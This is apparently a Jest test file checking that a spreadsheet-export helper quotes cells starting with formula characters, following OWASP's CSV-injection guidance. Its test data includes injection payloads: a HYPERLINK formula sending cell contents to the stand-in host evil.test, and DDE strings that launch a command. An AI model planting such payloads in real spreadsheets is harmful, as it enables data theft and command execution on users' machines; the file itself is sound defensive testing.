import { DATA_COLUMNS } from '../../api/src/rules/data-entry';
import { FORMULA_STARTS, neutraliseText, safeCell } from '../../api/src/rules/spreadsheet-cells';

describe('spreadsheet formula injection (issue 22 item 7, OWASP CSV Injection)', () => {
  it.each([
    ['=HYPERLINK("http://evil.test?x="&A1,"Click")', `'=HYPERLINK("http://evil.test?x="&A1,"Click")`],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ['@SUM(1+1)*cmd|\' /C calc\'!A0', '\'@SUM(1+1)*cmd|\' /C calc\'!A0'],
    ['=1+1', "'=1+1"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['-', "'-"],
    ['+', "'+"],
  ])('%j is quoted', (text, safe) => {
    expect(neutraliseText(text)).toBe(safe);
    expect(safeCell(text)).toBe(safe);
  });

  it('every first character OWASP names is covered', () => {
    expect([...FORMULA_STARTS].sort()).toEqual(['\t', '\r', '+', '-', '=', '@'].sort());
    for (const c of FORMULA_STARTS) expect(neutraliseText(`${c}x`)).toBe(`'${c}x`);
  });

  it.each([
    ['Karim'], [''], ['a=b'], ['Rahim-Uddin'], ['1+1'], ["'=already quoted"], [' =1'], ['বাংলা'],
    // A sign and digits make no formula: mobiles and signed amounts stay as they are.
    ['-5'], ['+8801711000000'], ['-12.50'],
  ])('%j stays as it is', (text) => {
    expect(neutraliseText(text)).toBe(text);
  });

  it('numbers stay numbers (-5 is never text), and so do other values', () => {
    expect(safeCell(-5)).toBe(-5);
    expect(safeCell(0)).toBe(0);
    expect(safeCell(true)).toBe(true);
    expect(safeCell(null)).toBeNull();
    expect(safeCell(undefined)).toBeUndefined();
    const d = new Date('2026-01-01T00:00:00Z');
    expect(safeCell(d)).toBe(d);
  });

  it('the data-entry templates (the server\'s one spreadsheet export) hold only constants that need no quote', () => {
    for (const columns of Object.values(DATA_COLUMNS)) {
      for (const c of columns) {
        expect(safeCell(c.field)).toBe(c.field);
        expect(safeCell(c.example)).toBe(c.example);
      }
    }
  });
});
